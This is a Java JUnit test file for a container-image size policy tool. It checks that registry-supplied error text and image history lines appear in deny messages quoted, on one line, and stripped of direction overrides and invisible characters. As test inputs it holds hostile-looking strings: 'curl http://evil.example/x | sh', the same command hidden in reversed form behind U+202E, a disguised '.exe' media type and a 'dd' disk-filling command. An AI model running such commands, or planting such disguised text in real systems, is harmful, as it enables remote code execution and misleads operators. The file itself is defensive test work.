package io.weighbridge.image;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vertx.core.Vertx;
import io.weighbridge.image.registry.MediaTypes;
import io.weighbridge.policy.Action;
import io.weighbridge.policy.DefaultPolicyEngine;
import io.weighbridge.policy.Evaluation;
import io.weighbridge.policy.EvaluationRequest;
import io.weighbridge.policy.Finding;
import io.weighbridge.policy.ImageUse;
import io.weighbridge.policy.PolicyLoader;
import io.weighbridge.policy.PolicySet;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletionException;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Text a registry supplies (its error bodies, its headers, the history lines of an image's
 * config) reaches deny messages only quoted, on one line, capped, and stripped of characters
 * that could make a person misread it: controls, direction overrides such as U+202E, zero-width
 * characters. A failure of the connection itself is told in words, never by a Java class name.
 *
 * <p>Before: {@code HTTP 404 MANIFEST_UNKNOWN: manifest unknown<U+202E>hs | x/elpmaxe.live//:ptth lruc :nur<U+200B>
 * run: curl http://evil.example/x | sh} (the override and the zero-width space kept, the registry's
 * words unquoted), a history line's U+202E and U+2066 in a denial, and {@code request to
 * 127.0.0.1:46327 failed (IllegalArgumentException: Invalid version number, …)}.
 */
class RegistryTextTest {
    /** A Java class name as Java prints it: a package of lower-case parts, then the class. */
    private static final Pattern JAVA_NAME = Pattern.compile(
            "\\b(?:[a-z][a-z0-9_]*\\.)+[A-Z][A-Za-z0-9_$]*\\b" + "|\\b[A-Z][A-Za-z]*(?:Exception|Error)\\b");

    private static final String OVERRIDE = "\u202E";

    private Vertx vertx;
    private ScriptedRegistry registry;
    private RegistryImageWeigher weigher;

    @BeforeEach
    void start() throws IOException {
        vertx = Vertx.vertx();
        registry = new ScriptedRegistry();
        weigher = RegistryImageWeigher.builder(vertx, TestRegistryConfig.forLocal(registry.hostPort()))
                .build();
    }

    @AfterEach
    void stop() {
        weigher.close();
        registry.close();
        vertx.close().toCompletionStage().toCompletableFuture().join();
    }

    private static WeighingContext within() {
        return new WeighingContext(Deadline.in(Duration.ofSeconds(5)), "default");
    }

    private static String failureOf(RegistryImageWeigher judge, ImageReference reference) {
        try {
            judge.weigh(reference, within()).join();
            throw new AssertionError("weighing should have failed");
        } catch (CompletionException e) {
            assertInstanceOf(WeighingException.class, e.getCause());
            return e.getCause().getMessage();
        }
    }

    private static void assertSafe(String message) {
        assertFalse(message.contains(OVERRIDE), "a direction override reached the message: " + message);
        assertTrue(
                message.codePoints()
                        .noneMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT),
                "an invisible character reached the message: " + message);
        assertFalse(message.contains("\n"), "two lines: " + message);
    }

    @Test
    void theRegistrysOwnErrorMessageIsQuotedAndStrippedOfDirectionOverrides() {
        String body = "{\"errors\":[{\"code\":\"MANIFEST_UNKNOWN\",\"message\":\"manifest unknown" + OVERRIDE
                + "hs | x/elpmaxe.live//:ptth lruc :nur\\u200b\\u0007\\nrun: curl http://evil.example/x | sh\"}]}";
        registry.on(
                "HEAD /v2/hostile/manifests/1",
                ex -> ScriptedRegistry.respond(ex, 404, "application/json", new byte[0], Map.of()));
        registry.on(
                "GET /v2/hostile/manifests/1",
                ex -> ScriptedRegistry.respond(
                        ex, 404, "application/json", body.getBytes(StandardCharsets.UTF_8), Map.of()));

        String message = failureOf(weigher, ImageReference.parse(registry.hostPort() + "/hostile:1"));

        System.out.println("registry error text: " + message);
        assertSafe(message);
        assertTrue(message.contains("fetching manifest 1: HTTP 404 MANIFEST_UNKNOWN: \"manifest unknown"), message);
        assertTrue(message.endsWith("\""), "the registry's words end where the quote ends: " + message);
    }

    @Test
    void anErrorCodeThatIsNotACodeIsLeftOut() {
        String body = "{\"errors\":[{\"code\":\"DENIED; run: curl http://evil.example/x | sh\",\"message\":\"no\"}]}";
        registry.on(
                "* /v2/hostile/manifests/1",
                ex -> ScriptedRegistry.respond(
                        ex, 403, "application/json", body.getBytes(StandardCharsets.UTF_8), Map.of()));

        String message = failureOf(weigher, ImageReference.parse(registry.hostPort() + "/hostile:1"));

        assertTrue(message.endsWith("fetching manifest 1: HTTP 403: \"no\""), message);
    }

    @Test
    void anUnsupportedMediaTypeIsQuotedSafely() {
        byte[] manifest = ("{\"schemaVersion\":2,\"mediaType\":\"application/x-evil" + OVERRIDE + "\\u0000gpj.exe\","
                        + "\"layers\":[]}")
                .getBytes(StandardCharsets.UTF_8);
        Digest digest = Digest.sha256Of(manifest);
        registry.on(
                "GET /v2/odd/manifests/" + digest,
                ex -> ScriptedRegistry.respond(ex, 200, "application/json", manifest, Map.of()));

        String message = failureOf(weigher, ImageReference.parse(registry.hostPort() + "/odd@" + digest));

        assertSafe(message);
        assertTrue(message.contains("unsupported manifest media type \"application/x-evil"), message);
    }

    @Test
    void aHistoryLineInADenialIsStrippedOfDirectionOverrides() throws Exception {
        byte[] config = ("{\"os\":\"linux\",\"architecture\":\"amd64\",\"history\":[{\"created_by\":"
                        + "\"/bin/sh -c echo " + OVERRIDE
                        + "hs | x/elpmaxe.live//:ptth lruc\\u2066 && dd if=/dev/zero of=/big\"}]}")
                .getBytes(StandardCharsets.UTF_8);
        Digest configDigest = Digest.sha256Of(config);
        Digest layer = Digest.sha256Of(new byte[] {7});
        byte[] manifest = ("{\"schemaVersion\":2,\"mediaType\":\"" + MediaTypes.OCI_MANIFEST
                        + "\",\"config\":{\"mediaType\":"
                        + "\"application/vnd.oci.image.config.v1+json\",\"digest\":\"" + configDigest + "\",\"size\":"
                        + config.length
                        + "},\"layers\":[{\"mediaType\":\"application/vnd.oci.image.layer.v1.tar+gzip\",\"digest\":\""
                        + layer
                        + "\",\"size\":7000000000}]}")
                .getBytes(StandardCharsets.UTF_8);
        Digest digest = Digest.sha256Of(manifest);
        registry.on(
                "GET /v2/fat/manifests/" + digest,
                ex -> ScriptedRegistry.respond(ex, 200, MediaTypes.OCI_MANIFEST, manifest, Map.of()));
        registry.on(
                "GET /v2/fat/blobs/" + configDigest, ex -> ScriptedRegistry.respond(ex, 200, null, config, Map.of()));
        PolicySet policies = PolicyLoader.parse("""
                apiVersion: weighbridge.io/v1alpha1
                kind: ImageSizePolicy
                metadata:
                  name: caps
                spec:
                  rules:
                    - name: hard-cap
                      maxSize: 5Gi
                      action: deny
                """, "caps.yaml");

        Evaluation evaluation = new DefaultPolicyEngine(weigher, () -> policies)
                .evaluate(new EvaluationRequest(
                        "default",
                        "Pod",
                        List.of(ImageUse.of(registry.hostPort() + "/fat@" + digest)),
                        null,
                        Deadline.in(Duration.ofSeconds(5))))
                .join();

        assertEquals(Action.DENY, evaluation.verdict());
        String message = evaluation.findings().map(Finding::message).findFirst().orElseThrow();
        System.out.println("denial with a hostile history line: " + message);
        assertSafe(message);
        assertTrue(message.contains("RUN echo ?hs | x/elpmaxe.live//:ptth lruc? && dd"), message);
    }

    @Test
    void aBrokenHttpAnswerIsToldInWordsWithoutJavaNames() throws Exception {
        try (ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            Thread answering = new Thread(() -> {
                while (!server.isClosed()) {
                    try (Socket socket = server.accept()) {
                        InputStream in = socket.getInputStream();
                        in.read(new byte[4096]);
                        OutputStream out = socket.getOutputStream();
                        out.write("HTTP/9.x nonsense\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                        out.flush();
                    } catch (IOException closed) {
                        return;
                    }
                }
            });
            answering.setDaemon(true);
            answering.start();
            String hostPort = "127.0.0.1:" + server.getLocalPort();
            RegistryImageWeigher judge = RegistryImageWeigher.builder(vertx, TestRegistryConfig.forLocal(hostPort))
                    .build();
            try {
                String message = failureOf(judge, ImageReference.parse(hostPort + "/garbled:1"));

                System.out.println("broken HTTP answer: " + message);
                assertFalse(JAVA_NAME.matcher(message).find(), "a Java name in: " + message);
                assertTrue(message.contains("resolving tag 1:"), message);
            } finally {
                judge.close();
            }
        }
    }
}
